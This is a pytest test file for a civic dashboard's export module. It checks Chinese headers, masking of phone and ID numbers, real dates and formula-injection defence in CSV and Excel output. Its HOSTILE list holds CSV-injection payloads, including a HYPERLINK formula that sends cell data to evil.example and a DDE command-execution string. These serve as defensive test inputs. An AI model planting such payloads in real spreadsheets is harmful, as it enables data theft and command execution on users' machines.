"""Safe downloads: Chinese headers, masked personal data, text that stays text, real dates."""

from __future__ import annotations

import csv
import io
from datetime import datetime

import openpyxl
import pandas as pd
import pytest

from civdash import exports
from civdash.exports import (
    export_frame,
    neutralize_formula,
    sheet_name,
    to_csv_bytes,
    to_excel_bytes,
)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "+1+2",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "=cmd|' /C calc'!A0",
]


@pytest.fixture
def volunteers() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "volunteer_id": ["V001", "V002", "V003"],
            "name": ["=1+1", "李四", "王五"],
            "district": ["东湖区", "南港区", None],
            "registered_on": pd.to_datetime(["2026-03-01", None, "2025-12-31"]).astype(
                "datetime64[s]"
            ),
            "hours": [12.5, None, -0.0],
            "is_party_member": [True, False, True],
            "phone": ["13800138000", "87654321", None],
            "id_number": ["110105199001011234", "11010519900101", None],
            "star_level": pd.array([0, None, 1], dtype="Int64"),
        }
    )


def _sheet(data: bytes, name: str) -> list[list[openpyxl.cell.cell.Cell]]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [list(row) for row in book[name].iter_rows()]


def _csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "CSV must start with a UTF-8 byte-order mark"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_public_api_is_what_all_lists() -> None:
    assert sorted(exports.__all__) == exports.__all__
    assert all(hasattr(exports, name) for name in exports.__all__)


def test_export_frame_masks_and_uses_the_ledgers_labels(volunteers: pd.DataFrame) -> None:
    out = export_frame(volunteers, kind="volunteers")
    assert list(out.columns[:3]) == ["志愿者编号", "姓名", "所属区县"]
    assert out["联系电话"].tolist()[:2] == ["138****8000", "****21"]
    assert out["身份证号"].tolist()[0] == "110105********1234"
    assert volunteers["phone"].iloc[0] == "13800138000", "the caller's frame is not changed"


def test_a_column_already_in_chinese_is_masked_as_well() -> None:
    out = export_frame(pd.DataFrame({"手机": ["13912345678"], "数值": [1]}))
    assert out["手机"].tolist() == ["139****5678"]


def test_labels_follow_the_kind_and_the_callers_overrides() -> None:
    frame = pd.DataFrame({"status": ["待整改"], "value": [1.0], "source_row": [4]})
    assert list(export_frame(frame, kind="issues").columns) == ["整改状态", "数值", "原表行号"]
    assert export_frame(frame, kind="units").columns[0] == "创建状态"
    relabelled = export_frame(frame, kind="issues", labels={"value": "问题数"})
    assert relabelled.columns[1] == "问题数"


# ---------------------------------------------------------------- CSV


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_text_that_looks_like_a_formula_gets_a_leading_quote(text: str) -> None:
    data = to_csv_bytes(pd.DataFrame({"description": [text]}), kind="issues")
    assert _csv_rows(data)[1] == ["'" + text]


def test_neutralize_formula_leaves_ordinary_text_alone() -> None:
    assert neutralize_formula("垃圾桶满溢 -- 已处理") == "垃圾桶满溢 -- 已处理"


def test_csv_numbers_stay_numbers_and_negative_numbers_are_not_quoted() -> None:
    data = to_csv_bytes(pd.DataFrame({"value": [-5.0, 12.5]}))
    assert _csv_rows(data) == [["数值"], ["-5.0"], ["12.5"]]


def test_csv_has_chinese_headers_iso_dates_yes_no_and_masked_personal_data(
    volunteers: pd.DataFrame,
) -> None:
    rows = _csv_rows(to_csv_bytes(volunteers, kind="volunteers"))
    header = rows[0]
    assert header[:4] == ["志愿者编号", "姓名", "所属区县", "注册日期"]
    record = dict(zip(header, rows[1], strict=True))
    assert record["姓名"] == "'=1+1"
    assert record["注册日期"] == "2026-03-01"
    assert record["是否党员"] == "是"
    assert record["联系电话"] == "138****8000"
    assert record["身份证号"] == "110105********1234"
    blank = dict(zip(header, rows[2], strict=True))
    assert blank["注册日期"] == "" and blank["累计服务时长（小时）"] == ""
    assert "13800138000" not in rows.__repr__()
    assert "110105199001011234" not in rows.__repr__()


def test_csv_keeps_commas_quotes_and_line_breaks_inside_a_cell() -> None:
    text = '东湖路"1号", 垃圾\n未清运'
    rows = _csv_rows(to_csv_bytes(pd.DataFrame({"description": [text]})))
    assert rows[1] == [text]


# ---------------------------------------------------------------- Excel


def test_excel_text_that_looks_like_a_formula_is_a_string_cell() -> None:
    frame = pd.DataFrame({"description": HOSTILE, "responsible_unit": ["=A1"] * len(HOSTILE)})
    cells = _sheet(to_excel_bytes({"问题": frame}, kinds={"问题": "issues"}), "问题")
    assert [c.value for c in cells[0]] == ["问题描述", "责任单位"]
    for row, text in zip(cells[1:], HOSTILE, strict=True):
        assert row[0].data_type == "s", f"{text!r} must be text, not a formula"
        # a carriage return is stored as Excel's _x000D_ escape, which openpyxl leaves as is
        assert row[0].value.replace("_x000D_", "\r") == text
        assert row[1].data_type == "s" and row[1].value == "=A1"


def test_excel_text_that_looks_like_a_number_or_link_stays_text() -> None:
    frame = pd.DataFrame({"issue_id": ["00123", "http://example.com", "1e5"]})
    cells = _sheet(to_excel_bytes({"明细": frame}), "明细")
    assert [(c[0].value, c[0].data_type) for c in cells[1:]] == [
        ("00123", "s"),
        ("http://example.com", "s"),
        ("1e5", "s"),
    ]


def test_excel_dates_are_real_dates_with_a_date_format(volunteers: pd.DataFrame) -> None:
    cells = _sheet(to_excel_bytes({"志愿者": volunteers}, kinds={"志愿者": "volunteers"}), "志愿者")
    header = [c.value for c in cells[0]]
    col = header.index("注册日期")
    first = cells[1][col]
    assert first.is_date and first.value == datetime(2026, 3, 1)
    assert first.number_format == "yyyy-mm-dd"
    assert cells[2][col].value is None


def test_excel_numbers_masks_and_booleans(volunteers: pd.DataFrame) -> None:
    cells = _sheet(to_excel_bytes({"志愿者": volunteers}, kinds={"志愿者": "volunteers"}), "志愿者")
    header = [c.value for c in cells[0]]
    row = {h: c for h, c in zip(header, cells[1], strict=True)}
    hours = row["累计服务时长（小时）"]
    assert hours.value == 12.5 and hours.data_type == "n"
    assert row["星级"].value == 0
    assert row["是否党员"].value == "是"
    assert row["联系电话"].value == "138****8000"
    assert row["身份证号"].value == "110105********1234"
    values = [c.value for r in cells for c in r]
    assert "13800138000" not in values and "87654321" not in values


def test_excel_numbers_carry_separators_and_the_columns_decimals_and_years_stay_plain() -> None:
    frame = pd.DataFrame(
        {
            "问题数": [61842, 1109],
            "服务时长（小时）": [104620.5, 12.0],
            "整改率（%）": [11.43, 8.3],
            "命名年份": [2019, 2021],
        }
    )
    cells = _sheet(to_excel_bytes({"表": frame}), "表")
    formats = {c.value: v.number_format for c, v in zip(cells[0], cells[1], strict=True)}
    assert formats == {
        "问题数": "#,##0",
        "服务时长（小时）": "#,##0.0",
        "整改率（%）": "#,##0.00",
        "命名年份": "0",
    }
    assert cells[1][0].value == 61842 and cells[1][0].data_type == "n"  # still a number


def test_excel_notes_go_first_and_sheet_names_are_made_valid() -> None:
    data = to_excel_bytes(
        {"问题/整改: 明细": pd.DataFrame({"value": [1]}), "问题_整改_ 明细": pd.DataFrame()},
        notes=["数据探索导出", "=不是公式"],
    )
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["说明", "问题_整改_ 明细", "问题_整改_ 明细（2）"]
    assert [c.value for c in book["说明"]["A"]] == ["数据探索导出", "=不是公式"]
    assert book["说明"]["A2"].data_type == "s"


def test_an_empty_frame_still_makes_a_readable_workbook() -> None:
    data = to_excel_bytes({"汇总": pd.DataFrame({"district": pd.Series(dtype="string")})})
    assert [[c.value for c in r] for r in _sheet(data, "汇总")] == [["区县"]]


@pytest.mark.parametrize(
    ("name", "taken", "expected"),
    [
        ("明细", (), "明细"),
        ("a" * 40, (), "a" * 31),
        ("[x]:*?", (), "_x____"),
        ("", (), "Sheet"),
        ("明细", ("明细",), "明细（2）"),
    ],
)
def test_sheet_names(name: str, taken: tuple[str, ...], expected: str) -> None:
    assert sheet_name(name, taken) == expected
